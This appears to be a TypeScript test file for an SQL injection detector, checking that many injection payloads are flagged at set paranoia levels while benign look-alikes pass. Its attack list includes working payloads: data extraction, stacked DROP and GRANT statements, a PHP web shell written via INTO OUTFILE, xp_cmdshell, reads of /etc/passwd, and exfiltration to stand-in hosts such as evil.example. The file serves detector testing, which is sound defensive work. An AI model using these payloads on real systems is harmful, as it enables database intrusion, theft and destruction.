import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { DetectorContext, Finding, Paranoia } from '../../finding.ts';
import { sqliDetector } from './sqli.ts';
import { dotE, tokenize, TokenStream } from './sql-tokenizer.ts';

function ctx(paranoia: Paranoia): DetectorContext {
  return { source: 'query', name: 'q', isName: false, paranoia, layers: [] };
}

function findings(value: string, paranoia: Paranoia = 3): Finding[] {
  const out: Finding[] = [];
  sqliDetector.detect(value, ctx(paranoia), (f) => out.push(f));
  return out;
}

/** The anomaly score of one value at `paranoia`, as the engine adds it up: each rule once, at its best score. */
function score(value: string, paranoia: Paranoia): number {
  return total(findings(value, paranoia));
}

function total(found: readonly Finding[]): number {
  const byRule = new Map<string, number>();
  for (const f of found) byRule.set(f.ruleId, Math.max(byRule.get(f.ruleId) ?? 0, f.score));
  let sum = 0;
  for (const v of byRule.values()) sum += v;
  return sum;
}

// [value, paranoia at which it must block on its own, rule expected among the findings]
const ATTACKS: Array<[string, Paranoia, string]> = [
  // Tautologies and contradictions after every kind of break-out.
  ['1 OR 1=1', 1, 'sqli-tautology'],
  ['1 or 2>1', 1, 'sqli-tautology'],
  ['5 || 3=3', 1, 'sqli-tautology'],
  ["' OR 'x'='x", 1, 'sqli-tautology'],
  ["' or ''='", 1, 'sqli-tautology'],
  ["x' OR 'a' LIKE 'a", 1, 'sqli-tautology'],
  ["admin' or 1=1 -- ", 1, 'sqli-tautology'],
  ["admin'/**/oR/**/1/**/=/**/1#", 1, 'sqli-tautology'],
  ['" or "z"="z', 1, 'sqli-tautology'],
  ["') or ('p'='p", 1, 'sqli-tautology'],
  ['1) OR (7=7', 1, 'sqli-tautology'],
  ['1)) or ((2=2', 1, 'sqli-tautology'],
  ["' OR 3 BETWEEN 1 AND 5--", 1, 'sqli-tautology'],
  ["' or 'abc' IS NOT NULL--", 1, 'sqli-tautology'],
  ["' or true--", 1, 'sqli-tautology'],
  ["admin' or 1#", 1, 'sqli-tautology'],
  ["admin' || 1=1#", 1, 'sqli-tautology'],
  ["nobody' and 2=3 --", 1, 'sqli-tautology'],
  ['0 xor 1=1', 1, 'sqli-tautology'],
  ['-5 OR 8 = 8', 1, 'sqli-tautology'],
  ['or 4=4', 1, 'sqli-tautology'],
  ["' OR JSON_EXTRACT('{\"k\": 4}', '$.k') = 4 -- ", 1, 'sqli-tautology'],
  ["' OR ASCII('a') = 97 --", 1, 'sqli-tautology'],
  ["' OR 'k' RLIKE 'k", 1, 'sqli-tautology'],
  ["' or username=username--", 1, 'sqli-tautology'],
  ["1'||'a'='a", 1, 'sqli-tautology'],
  ["O\\'Hara' OR 5=5 -- ", 1, 'sqli-tautology'],
  ['1/*foo*/OR/*bar*/1=1', 1, 'sqli-tautology'],
  ['1\nor\n1=1', 1, 'sqli-tautology'],
  ["'\toR\t'a'='a", 1, 'sqli-tautology'],
  ['1\u000bor\u000b1=1', 1, 'sqli-tautology'],
  ['1 /*!OR*/ 2=2', 1, 'sqli-tautology'],
  ['9 or /* hint */ true', 1, 'sqli-tautology'],
  ['1 and 1=cast(version() as int)', 1, 'sqli-tautology'],
  // JSON operators (PostgreSQL, MySQL).
  ["1 AND '{\"q\":1}'::jsonb @> '{\"q\":1}'::jsonb", 1, 'sqli-json'],
  ["' or '[1,2]'::jsonb ? '1' --", 1, 'sqli-json'],
  ["-1' OR JSON_LENGTH('[1]') = 1 #", 1, 'sqli-tautology'],
  // Conditions for blind extraction.
  ["' AND SUBSTRING((SELECT pass FROM accounts LIMIT 1),1,1)='q", 1, 'sqli-boolean'],
  ['1 AND ASCII(SUBSTR((SELECT user()),1,1))>64', 1, 'sqli-boolean'],
  ["' and (select count(*) from members) > 0 --", 1, 'sqli-boolean'],
  ["x' AND EXISTS(SELECT 1 FROM staff WHERE id=1) AND 'y'='y", 1, 'sqli-boolean'],
  ['3 AND LENGTH(database())=8', 1, 'sqli-boolean'],
  ["jane' and email like '%", 1, 'sqli-boolean'],
  ["me@site.example' and passwd glob 'a*", 1, 'sqli-boolean'],
  ["x'+(SELECT TOP 1 name FROM logins)+'", 1, 'sqli-boolean'],
  // UNION.
  ['1 UNION SELECT null, version()--', 1, 'sqli-union'],
  ['-7 union all select 1,2,3,group_concat(name) from sqlite_master--', 1, 'sqli-union'],
  ["' UnIoN SeLeCt username, password FROM logins--", 1, 'sqli-union'],
  // no-break spaces as blanks (MySQL reads 0xA0 so on a Latin-1 connection): decoded as such, or as the U+FFFD a
  // lone `%A0` byte becomes when read as UTF-8
  ['1\u00a0union\u00a0select\u00a0password\u00a0from\u00a0users', 1, 'sqli-union'],
  ['1\ufffdunion\ufffdselect\ufffdpassword\ufffdfrom\ufffdusers', 1, 'sqli-union'],
  ["'/**/union/**/select/**/1,2,3#", 1, 'sqli-union'],
  ['/*!50000UNION*/ /*!50000SELECT*/ 1,2', 1, 'sqli-union'],
  ['1 union distinct select @@version', 1, 'sqli-union'],
  ["') union (select 1, table_name from information_schema.tables)--", 1, 'sqli-union'],
  ['0 UNION SELECT * FROM secrets', 1, 'sqli-union'],
  ['9e0union select 1', 1, 'sqli-union'],
  ["x' union values (1, 'a')--", 2, 'sqli-union'],
  // Stacked statements.
  ['1; DROP TABLE accounts--', 1, 'sqli-stacked'],
  ["'; DELETE FROM orders WHERE 1=1; --", 1, 'sqli-stacked'],
  ["x'; INSERT INTO admins (name) VALUES ('eve')--", 1, 'sqli-stacked'],
  ["1; UPDATE members SET role='admin' WHERE id=4", 1, 'sqli-stacked'],
  ['1;SHUTDOWN WITH NOWAIT', 1, 'sqli-stacked'],
  ["'; TRUNCATE TABLE logs;--", 1, 'sqli-stacked'],
  ["';select name from accts--", 1, 'sqli-stacked'],
  ['1; DECLARE @cmd varchar(80); SET @cmd = 0x77686f616d69; EXEC(@cmd)', 1, 'sqli-stacked'],
  ["9; ALTER USER sa WITH PASSWORD = 'x'", 1, 'sqli-stacked'],
  ['7; GRANT ALL PRIVILEGES ON *.* TO mallory', 1, 'sqli-stacked'],
  // Time delays.
  ['1 AND SLEEP(6)', 1, 'sqli-time'],
  ["' OR BENCHMARK(9000000,SHA1('x'))#", 1, 'sqli-time'],
  ["1;WAITFOR DELAY '00:00:07'--", 1, 'sqli-time'],
  ['2 waitfor time @at', 1, 'sqli-time'],
  ['9 WAITFOR DELAY %2700:00:04%27', 1, 'sqli-time'], // a quote the application decodes
  ["' || pg_sleep(5) || '", 1, 'sqli-time'],
  ["1 AND 4242=DBMS_PIPE.RECEIVE_MESSAGE('q',8)", 1, 'sqli-time'],
  ['if(1=1,sleep(3),0)', 1, 'sqli-time'],
  ['(SELECT * FROM (SELECT(SLEEP(4)))abc)', 1, 'sqli-time'],
  ['sleep(12)', 1, 'sqli-time'],
  ['SlEeP/**/(7)', 1, 'sqli-time'],
  // Error-based.
  ["' AND EXTRACTVALUE(7,CONCAT(0x5c,(SELECT version())))--", 1, 'sqli-error-based'],
  ['1 AND UPDATEXML(null,CONCAT(0x3a,user()),null)', 1, 'sqli-error-based'],
  ['1 and exp(~(select * from (select user())x))', 1, 'sqli-error-based'],
  ["' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--", 1, 'sqli-boolean'],
  ['1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)', 1, 'sqli-catalog'],
  ['(SELECT password FROM users LIMIT 1)::int', 1, 'sqli-cast'],
  ["1 AND 1=(SELECT name_const(version(),1))", 1, 'sqli-error-based'],
  // Files, commands, out of band.
  ["' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/s.php'--", 1, 'sqli-file'],
  ["1 union select load_file('/etc/passwd')", 1, 'sqli-file'],
  ["'; exec xp_cmdshell 'ping 10.0.0.1'--", 1, 'sqli-exec'],
  ["1; COPY (SELECT '') TO PROGRAM 'id'", 1, 'sqli-stacked'],
  ["' AND UTL_HTTP.REQUEST('http://evil.example/'||(SELECT user FROM dual)) IS NOT NULL--", 1, 'sqli-out-of-band'],
  ["1;EXEC master.dbo.xp_dirtree '\\\\attacker.example\\x'", 1, 'sqli-out-of-band'],
  ["LOAD DATA INFILE '/etc/hosts' INTO TABLE t", 1, 'sqli-file'],
  ["1 AND lo_import('/etc/passwd') > 0", 1, 'sqli-file'],
  // System catalogs.
  ['information_schema.columns', 1, 'sqli-catalog'],
  ['1 union select table_name from information_schema.tables', 1, 'sqli-catalog'],
  ["' and (select count(*) from sqlite_master)>0--", 1, 'sqli-catalog'],
  ['select * from pg_catalog.pg_tables', 1, 'sqli-catalog'],
  ['master..sysdatabases', 1, 'sqli-catalog'],
  ['1 union select user, authentication_string from mysql.user', 1, 'sqli-catalog'],
  // Comments that cut the query after a break-out.
  ["admin'--", 1, 'sqli-comment-cut'],
  ["admin' #", 1, 'sqli-comment-cut'],
  ["superuser')-- -", 1, 'sqli-comment-cut'],
  ["root'/*", 1, 'sqli-comment-cut'],
  ['alice";--', 1, 'sqli-comment-cut'],
  // Column-count probing.
  ['1 ORDER BY 9--', 1, 'sqli-order-probe'],
  ["' ORDER BY 3#", 1, 'sqli-order-probe'],
  ["1' GROUP BY 1,2,3-- -", 1, 'sqli-order-probe'],
  // Whole statements and system variables (weaker on their own).
  ['SELECT * FROM users WHERE id = 1; --', 1, 'sqli-statement'],
  ['DROP TABLE customers;', 1, 'sqli-statement'],
  ['SELECT name FROM staff WHERE salary > 1000', 2, 'sqli-statement'],
  ['@@version', 2, 'sqli-info'],
  ['concat(0x7e,version())', 2, 'sqli-function'],
  ['char(115,101,108,101,99,116)', 3, 'sqli-function'],
  ['declare @v int', 1, 'sqli-stacked'],
  // Techniques as automated tools write them.
  ['1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))', 1, 'sqli-boolean'],
  ['1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version()))),1)', 1, 'sqli-error-based'],
  ['1 AND 2=(SELECT 2 FROM PG_SLEEP(5))', 1, 'sqli-time'],
  ["1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))", 1, 'sqli-time'],
  ["x' and 1=0 union select 1,2 from dual where 'a'='a", 1, 'sqli-union'],
  ['1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,version())) USING utf8)))', 1, 'sqli-error-based'],
  ['admin") or ("1"="1', 1, 'sqli-tautology'],
  ["%' AND 1=1 AND '%'='", 1, 'sqli-tautology'],
  ["' HAVING 1=1--", 1, 'sqli-tautology'],
  ["1'or(1)=(1)#", 1, 'sqli-tautology'],
  ["Robert'); DROP TABLE Students;--", 1, 'sqli-stacked'],
  ['1 AND 5650=CAST((CHR(113)||CHR(120))||(SELECT 1)::text AS NUMERIC)', 1, 'sqli-boolean'],
  ["1' AND SLEEP(5) AND '1'='1", 1, 'sqli-time'],
  ["1' WAITFOR DELAY '0:0:5'-- x", 1, 'sqli-time'],
  ["'; EXEC sp_configure 'show advanced options', 1; RECONFIGURE--", 1, 'sqli-exec'],
  // A `;` ends the injected fragment; typographic quotes; `+` for spaces; backtick identifiers; MySQL `1.e` filler.
  ["bob' or 'k'='k'; whatever follows", 1, 'sqli-tautology'],
  ["carol' and nickname like pin escape '!';", 1, 'sqli-boolean'],
  ['mallory’ OR 7=7 -- x', 1, 'sqli-tautology'],
  ['“ or “q”=“q', 1, 'sqli-tautology'],
  ["12'union+select+name,pass+from+accts", 1, 'sqli-union'],
  ['2.e(ascii 2.e(substr(2.e(select pin from vault) 2.e,1,1)))>50', 1, 'sqli-function'],
  ['SELECT/**/pin/**/FROM/**/vault', 1, 'sqli-statement'],
  ['TRUNCATE TABLE audit;--', 1, 'sqli-statement'],
  ['DELETE FROM sessions;--', 1, 'sqli-statement'],
  ['\'{"k":[1,2]}\'::jsonb - \'k\'', 1, 'sqli-json'],
  ["'[3]'::jsonb #- '{0}'", 1, 'sqli-json'],
  ['2.22507385850720113e-308', 1, 'sqli-magic-number'],
  // A one-token value, its quote closed and the statement ended right there: the rest of the login query is cut off.
  ["dave@mail.example';", 1, 'sqli-comment-cut'],
  ['erin@mail.example`;', 1, 'sqli-comment-cut'],
  ['frank@mail.example";', 1, 'sqli-comment-cut'],
  ["gina@mail.example'/* note */;", 1, 'sqli-comment-cut'],
  ["hank_admin') ; ", 1, 'sqli-comment-cut'],
  // Fragments that need the stricter level.
  ['12";', 2, 'sqli-comment-cut'],
  ["ivy’;", 2, 'sqli-comment-cut'],
  ["k'+pin--", 2, 'sqli-comment-cut'],
  ["q' rlike pin--", 2, 'sqli-comment-cut'],
  ['` AS `alias_x` FROM', 2, 'sqli-statement'],
  ['7 AS "n" FROM ledger', 2, 'sqli-statement'],
  ['40<>41', 2, 'sqli-tautology'],
  ['5 is not 6', 2, 'sqli-tautology'],
  ["'p' not like 'q'", 2, 'sqli-tautology'],
  ['NOT IN (4, 5, 6)', 2, 'sqli-boolean'],
  ['IS NOT NULL', 2, 'sqli-boolean'],
  ['CASE WHEN grade > 3 THEN 1 ELSE 0 END', 2, 'sqli-boolean'],
  ['case when flag then val', 2, 'sqli-boolean'],
  [')) when 77 then', 2, 'sqli-boolean'],
  ['IIF(3>2,', 2, 'sqli-function'],
  ["elt(4=4, 'a', 'b')", 2, 'sqli-function'],
  ['xp_regwrite', 2, 'sqli-procedure-name'],
  ['pg_sleep', 2, 'sqli-procedure-name'],
  ['9223372036854775807', 2, 'sqli-magic-number'],
  ["VALUES (5, 'x')", 2, 'sqli-statement'],
  ['AND 1# ', 2, 'sqli-tautology'],
  ["a'or'a", 2, 'sqli-tautology'],
  ['1=1', 2, 'sqli-tautology'],
  ['FROM orders WHERE id = 4 LIMIT 1', 2, 'sqli-statement'],
  [') AS total FROM invoices', 2, 'sqli-statement'],
  ['AND price > 100', 2, 'sqli-boolean'],
  ['sleep(', 2, 'sqli-time'],
  ['x::int', 2, 'sqli-cast'],
  // clauses that end a SELECT before the comment
  ["' OR 1=1 FOR UPDATE-- -", 1, 'sqli-tautology'],
  ['1 OR 1=1 FOR UPDATE', 1, 'sqli-tautology'],
  ["' or 1=1 OFFSET 0 ROWS-- -", 1, 'sqli-tautology'],
  ["' OR 1=1 FETCH FIRST 1 ROWS ONLY-- -", 1, 'sqli-tautology'],
  ["' OR 1=1 LOCK IN SHARE MODE-- -", 1, 'sqli-tautology'],
  ["1' AND (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a' FOR UPDATE-- -", 1, 'sqli-boolean'],
  ["admin' LIMIT 1-- -", 1, 'sqli-comment-cut'],
  // MySQL login bypasses: an operator between the application's empty literals
  ["'-'", 1, 'sqli-tautology'],
  ["'='", 1, 'sqli-tautology'],
  ["'||'", 1, 'sqli-tautology'],
  ["'|0#", 1, 'sqli-tautology'],
  ["1' AND ISNULL(NULL)-- -", 1, 'sqli-boolean'],
  ["1' AND (SELECT CASE WHEN ISNULL(1) THEN 1 ELSE 2 END)=2-- -", 1, 'sqli-boolean'],
  // XPath's boolean functions in the same break-out (an XPath login query)
  ["' or true() or '", 1, 'sqli-tautology'],
  // a whole value that is a subquery reading the database (sqlmap's inline query)
  ['(SELECT CONCAT(0x7176786271,(CASE WHEN (1=1) THEN 0x31 ELSE 0x30 END),0x716a766a71))', 1, 'sqli-boolean'],
  ['(select top 1 password from users)', 1, 'sqli-boolean'],
  // a number ORed with a true value where a number is expected
  ['1 or 1', 1, 'sqli-tautology'],
  ['-1 or true', 1, 'sqli-tautology'],
  ['0x31 or 1', 1, 'sqli-tautology'],
];

const BENIGN: string[] = [
  '(select one from the list)',
  '1 or 2',
  'pick 2 or 3',
  '(Select all that apply)',
  '\ufffd\ufffd union station \ufffd\ufffd', // a legacy (EUC-KR) query read as UTF-8, around ordinary words
  'Select your size from the list',
  'union of workers',
  "I'd like 1 or 2",
  "O'Reilly",
  "Tom's diner -- best in town",
  'drop shipping',
  'waitfor delay sql server', // a search for the statement: T-SQL takes the time as a string or a variable
  'how to use waitfor delay in a loop',
  'Union Station',
  'union station',
  '1=1 pairing',
  "O'Brien",
  "It's 5 o'clock somewhere",
  "rock 'n' roll",
  '"Hello," she said, "or else."',
  "Ben & Jerry's",
  'C:\\Program Files\\App',
  'https://example.com/search?q=select+from&page=2',
  'https://shop.example/items?id=10&sort=price&order=desc',
  'john.doe@example.com',
  'Meeting at 10:30; bring notes',
  'Price: $5 -- limited offer!',
  '#hashtag and more',
  'Rating: 4/5 (would buy again)',
  'user(s) must sign in',
  '## Heading\n\n* item one\n* item two\n\n`code` and **bold**',
  'function f(a, b) { return a == 1 || b; }',
  'if (x && y) { sleep(500); }',
  'const q = items.filter((i) => i.price > 10 && i.stock != 0).map((i) => i.name);',
  'def wait():\n    time.sleep(5)\n    return True',
  'Thread.sleep(1000);',
  '{"query":"shoes","filter":{"size":[42,43]}}',
  'Order by date (newest first)',
  '1 or 2 tickets please',
  'between 1 and 10',
  'you & me || nobody',
  'Hi team,\n\nPlease select the option from the drop-down and click save; then update the record.\n\nThanks,\nBob',
  'Solid oak drop-leaf table, seats 4-6. Union-made in Ohio. Select options below.',
  'where is the nearest union bank',
  'insert coin',
  'delete account',
  'update firmware',
  'sleep apnea (obstructive)',
  'benchmark results for 2024',
  'report_2024-01-01.pdf',
  'my--file.txt',
  'SELECT',
  "O'Neil's \"best\" or worst? -- you decide",
  "I'll be there at 5 o'clock or 6",
  '{"a": "b", "c": 1}',
  'x = a || b',
  'count(*) of items',
  "It's my parents' house",
  "d'Artagnan and the 3 musketeers",
  "Rock'n'roll -- all night long",
  "l'or et l'argent",
  '5\' 11" tall',
  'He said "yes" or "no"',
  '-- Comment line',
  'a=1&b=2',
  'ORDER #12345',
  'Case when you need it',
  '#1 or #2',
  '10% off -- today only!',
  "print('hello world')",
  'exec summary',
  'Go to settings; select the Privacy tab',
  'I would like to request a random number between 1 and 10, please.',
  'If the subject parameter is greater than 0, then return a list of all articles.',
  'and =IS=C5HF95_=',
  'john+or@var.es',
  "D'or 1st parfume",
  'DEAR FINN,--I think it would do; copy should reach us second post',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
  'en-US,en;q=0.9,fr;q=0.8',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'session=abc123; theme=dark; lang=en',
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.dGVzdC0tc2lnbmF0dXJl',
  '2024-05-01T10:00:00Z',
  '+1 (555) 010-9999',
  'The SQL keyword SELECT retrieves rows; UNION merges two result sets.',
  'He had to choose: either or neither.',
  "We're open Mon-Fri 9-5; closed on holidays (except Dec 24)",
  'Set the value to 1 or higher',
  'Delete from cart',
  'drop table lamp, walnut',
  'group by 3',
  'the users\' table and the admins\' table',
  'Are you sure? Yes/No',
  "Paste 'SELECT 1' into the console",
  'He ran "SELECT * FROM users" and got 3 rows',
  'Hello; update me when it ships',
  'a.sleep(5)',
  'md5(password) is not secure',
  '3 or 4 people, maybe 5',
  'cats and dogs = love',
  'sin(x) + cos(y)',
  // Code and documentation, where quotes and operators read inside out.
  "console.log(theme.hex('#c0ffee') + ' ready');",
  "Choose `'AND'` or `'OR'` as the operator (default `'OR'`).",
  "expr ::= term ( '||' term ) *",
  "filter({ path: '/api' }, { mode: 'AND' })",
  "tokens: '<' | '>' | '<=' | '='",
  "const base = url.split('?')[0];",
  '* parse() -> compress()',
  'var t = setInterval(function () { tick(); if (done) { stop(); } }, 100);',
  'The benchmark (`npm run bench`) reports throughput',
  'When using the header format (`string[]`), only indexed items count.',
  'log(`CPU: ${cpu}%`)',
  'My query: select a, b from t1 union select a, b from t2',
  'WHERE created_at > NOW() - INTERVAL 1 DAY',
  'Tip: 1 = 1 is always true',
  'Use SELECT name FROM users WHERE id = ? to fetch one row',
  '"SELECT * FROM t" returns all rows',
  'if (user.isAdmin || user.id === 1) { grant(); }',
  'from my heart',
  'order by price desc',
  '2+2=4',
  'backup/mysql.db',
  'mysql.user=app',
  // Look-alikes of the rules added for semicolons, typographic quotes, backticks, CASE, constants, names.
  "It’s 5 o’clock or 6 — either works",
  '“Select your size” or “drop shipping”',
  'Tom’s; Jerry’s; and more',
  // Look-alikes of a quote break-out ended by `;` (sizes in feet and inches, quoted words, code statements).
  '15.6";',
  "6';",
  "5'11\";",
  "the players';",
  "O'Brien';",
  "'done';",
  "x = 'a';",
  'print("ok");',
  "Rock ’n’ roll’;",
  "students’;",
  "color: 'red'; margin: 0;",
  'c++ and c#',
  'q=union+station+parking',
  'drop+shipping+from+china',
  'Run `npm install` or `yarn` first',
  'in case when ready then go',
  'when in doubt, then ask',
  'like new',
  'like this one',
  'between 2 and 3 weeks',
  '4294967296 bytes',
  'version 1.e',
  'Figure 2.e shows the setup',
  'The log mentions xp_cmdshell twice',
  'if (count > 0) { render(); }',
  'return a != b;',
  '3 is 4?',
  'is null and void',
  'Select options; then continue',
  'SELECT your size; FROM our catalog',
  // Markdown inline code in a chat message, a double-quoted name with a blank (Jira's JQL)
  'anyone know why `SELECT count(*) FROM events` takes 40s on prod?? :thinking_face:',
  'is that the same as `SELECT COUNT(*)`? or am I missing something',
  'issuetype = Bug AND "Story Points[Number]" > 3',
  // a whole query kept as data, a quoted search inside a link, words after 'for'
  'SELECT a FROM t1 UNION ALL SELECT a FROM t2',
  "https://shop.example.co.kr/search?q='select all'",
  'we are waiting for update',
  "rock 'n' roll for share",
  "'a'",
  '(select from the list below)',
  '(select one)',
];

test('attack samples are detected at the expected paranoia level and block on their own', () => {
  const failures: string[] = [];
  for (const [value, paranoia, rule] of ATTACKS) {
    const found = findings(value, paranoia);
    const sum = total(found);
    if (!found.some((f) => f.ruleId === rule && f.paranoia <= paranoia)) {
      failures.push(`${JSON.stringify(value)}: expected ${rule} at PL${paranoia}, got ${found.map((f) => `${f.ruleId}/PL${f.paranoia}`).join(' ') || 'nothing'}`);
    } else if (sum < 5 && rule !== 'sqli-function' && rule !== 'sqli-info') {
      failures.push(`${JSON.stringify(value)}: score ${sum} at PL${paranoia} does not block`);
    }
    for (const f of found) {
      assert.equal(f.category, 'sqli');
      assert.ok(f.matched.length <= 120, `excerpt too long for ${value}`);
      assert.ok(f.ruleId.startsWith('sqli-'));
      assert.ok(f.paranoia >= 1 && f.paranoia <= 3);
    }
  }
  assert.deepEqual(failures, []);
});

test('benign samples produce no finding at paranoia 1', () => {
  const failures: string[] = [];
  for (const value of BENIGN) {
    const found = findings(value, 1);
    if (found.length > 0) failures.push(`${JSON.stringify(value)}: ${found.map((f) => `${f.ruleId}/${f.score}`).join(' ')}`);
  }
  assert.deepEqual(failures, []);
});

test('benign samples that fire at paranoia 2 or 3 stay below the blocking threshold at paranoia 2, except those listed', () => {
  // Documented paranoia-2 false positives: SQL-looking phrases that a stricter level is meant to catch.
  const knownAtPl2 = new Set(['drop table lamp, walnut', 'Paste \'SELECT 1\' into the console', 'Delete from cart',
    'if (x && y) { sleep(500); }', 'My query: select a, b from t1 union select a, b from t2',
    'SELECT a FROM t1 UNION ALL SELECT a FROM t2',
    // SQL in Markdown inline code: the backtick break-out reading, one level higher
    'anyone know why `SELECT count(*) FROM events` takes 40s on prod?? :thinking_face:',
    'is that the same as `SELECT COUNT(*)`? or am I missing something',
    'WHERE created_at > NOW() - INTERVAL 1 DAY', 'The log mentions xp_cmdshell twice',
    // a break-out ended by `;` stays a paranoia-2 finding when the data is a number or the quote typographic
    '15.6";', "6';", "5'11\";", 'students’;']);
  const failures: string[] = [];
  for (const value of BENIGN) {
    if (knownAtPl2.has(value)) continue;
    const total = score(value, 2);
    if (total >= 5) failures.push(`${JSON.stringify(value)}: ${findings(value, 2).map((f) => `${f.ruleId}/PL${f.paranoia}/${f.score}`).join(' ')}`);
  }
  assert.deepEqual(failures, []);
});

test('findings respect the paranoia level in force', () => {
  // sqli-info is paranoia 2 for a critical score, a warning at paranoia 1.
  const pl1 = findings('@@version', 1);
  assert.ok(pl1.every((f) => f.paranoia === 1 && f.score < 5));
  const pl2 = findings('@@version', 2);
  assert.ok(pl2.some((f) => f.score === 5));
  assert.deepEqual(findings("I'd like 1 or 2", 3).filter((f) => f.paranoia === 1), []);
});

test('per rule, the best finding of each paranoia level, highest score first', () => {
  // @@version: a warning at paranoia 1, critical at paranoia 2.
  const found = findings('@@version', 2).filter((f) => f.ruleId === 'sqli-info');
  assert.deepEqual(found.map((f) => [f.paranoia, f.score]), [[2, 5], [1, 3]]);
  // A critical finding at paranoia 1 makes the paranoia-2 one redundant.
  const tautology = findings('1 or 1=1', 3).filter((f) => f.ruleId === 'sqli-tautology');
  assert.deepEqual(tautology.map((f) => [f.paranoia, f.score]), [[1, 5]]);
});

test('one finding per rule, with a bounded excerpt around the match', () => {
  const value = `${'x'.repeat(500)}' UNION SELECT 1,2,3 -- ${'y'.repeat(500)}`;
  const found = findings(value, 1);
  const ids = found.map((f) => f.ruleId);
  assert.equal(new Set(ids).size, ids.length);
  const union = found.find((f) => f.ruleId === 'sqli-union');
  assert.ok(union !== undefined);
  assert.ok(union.matched.includes('UNION SELECT'));
  assert.ok(union.matched.length <= 120);
});

test('the shortcuts for benign input keep every finding: values that pass through each of them', () => {
  // [value, paranoia, the findings (ruleId/paranoia/score), in report order] as the full analysis gives them.
  const pad = 'y'.repeat(400);
  const cases: Array<[string, Paranoia, string]> = [
    // one word (quietValue): special words still take the full path
    ['isnull', 3, 'sqli-boolean/2/5'],
    ['select', 3, 'sqli-statement/3/3'],
    ['limit', 3, 'sqli-statement/2/5'],
    ['master', 3, 'sqli-catalog/2/2'],
    ['2147483647', 3, 'sqli-magic-number/2/5'],
    ['price', 3, ''],
    // mixed-case keywords (evasion) with no `;` or comment at paranoia 1
    ['SeLeCt * FrOm users', 1, 'sqli-statement/1/5'],
    // words the survey must see through: the Kelvin sign lower-cases to k, words glued to numbers
    ['1 AND BENCHMAR\u212A(5000000,MD5(1))', 1, 'sqli-boolean/1/5 sqli-time/1/5'],
    ['1union select 1,2,3', 1, 'sqli-union/1/5'],
    ['0x1funion select 1,2', 1, 'sqli-union/1/5'],
    ['x=1.eunion select 1', 1, 'sqli-union/1/5'],
    // ASCII runs: hashed only when their shape is one of a classed word's; runs of digits only have no word inside
    ['12union select 1,2', 1, 'sqli-union/1/5'],
    ['a 12345sleep(5)', 3, 'sqli-time/2/5'],
    ['x\u00e9 union select 1,2--', 1, 'sqli-union/1/5'],
    ['shipped on 2026-11-20 at 10:30 or 1=1', 1, ''],
    // values longer than the first copy buffer keep the one-byte copy
    [`${'Qz'.repeat(40000)}/**/UnIoN/**/SeLeCt 1`, 1, 'sqli-union/1/5'],
    [`${'q'.repeat(70000)} x' or 1=1--`, 1, 'sqli-tautology/1/5'],
    // tokens inside a run of word characters start only after a number (`0xAb` hex digits, `7e5`, `1.e`) or `$`;
    // a function name is a call only before `(` or what the tokenizer skips on the way to one
    ['x/0xAbunion select 1', 1, 'sqli-union/1/5'],
    ['Qz/7e5union select 1', 1, 'sqli-union/1/5'],
    ['Qz/9sleep/**/(5)', 3, 'sqli-time/2/5'],
    ['Qz/sleep 1.e(5)', 1, 'sqli-time/1/5'],
    ['Qz/3qsleep(5)', 3, ''],
    // a comment that cuts the bare reading: the break-out readings still read past it (also as typographic quotes)
    [`abc # x' or 1=1 -- ${pad}`, 1, 'sqli-tautology/1/5'],
    [`abc # x\u2019 or 1=1 -- ${pad}`, 1, 'sqli-tautology/1/5'],
    [`Our sourdough #1 ${pad} UNION SELECT password FROM users`, 3, ''],
    // readings of prose that fail at once, next to readings that do not
    ["Questions? Write to us at https://example.com/help?topic=x' or '1'='1", 1, 'sqli-tautology/1/5'],
    ["O'Brien' or 1=1--", 1, 'sqli-tautology/1/5'],
    ['Select a size from the list; drop table users', 1, 'sqli-stacked/1/5'],
    // key=value pairs (also at paranoia 1, which skips readings without paranoia-1 words)
    ['see https://example.com/?q=1 or 1=1', 3, 'sqli-tautology/1/5'],
    ['see https://example.com/?id=1 union select 1,2,3--', 1, 'sqli-union/1/5'],
    ['name=x&pass=y&id=1;shutdown', 1, 'sqli-stacked/1/5'],
    ['a=b.c&d=e.f or 1=1', 3, 'sqli-tautology/1/5'],
    // pairs read from right after each `=` first: all fail at once, one does not, `=` inside a string, versioned comments
    ['Questions? see https://example.com/help?topic=delivery&lang=en. Prices (10%); a discount applies', 1, ''],
    ['see https://example.com/help?topic=delivery&lang=en or 1=1', 1, 'sqli-tautology/1/5'],
    ["it's ?a=1 or 1=1", 3, ''],
    ['a=b /*!and*/ c=1 or 1=1', 1, 'sqli-tautology/1/5'],
    ['see ?q=x.y.z(1) or 1=1', 1, 'sqli-tautology/1/5'],
    ["see ?q=N'a' or 1=1", 1, 'sqli-tautology/1/5'],
    ['see ?q=a -- b\nor 1=1', 1, 'sqli-tautology/1/5'],
    ['see ?q=a+b*c d', 3, ''],
    // the whole-statement check at paranoia 1: a `;` after a statement word that destroys nothing is not enough
    ['Select a size from the list; a discount applies', 1, ''],
    ['DELETE FROM users; select 1', 1, 'sqli-stacked/1/5 sqli-statement/1/5'],
    ['Select a size from the list; UnIoN select 1', 1, 'sqli-union/1/5'],
  ];
  for (const [value, paranoia, expected] of cases) {
    const got = findings(value, paranoia).map((f) => `${f.ruleId}/${f.paranoia}/${f.score}`).join(' ');
    assert.equal(got, expected, value.slice(0, 80));
  }
});

test('the tokenizer reads SQL lexical tricks', () => {
  const kinds = (s: string) => tokenize(s).map((t) => `${t.k}:${t.k === 'word' || t.k === 'op' || t.k === 'var' ? t.w : s.slice(t.s, t.e)}`);
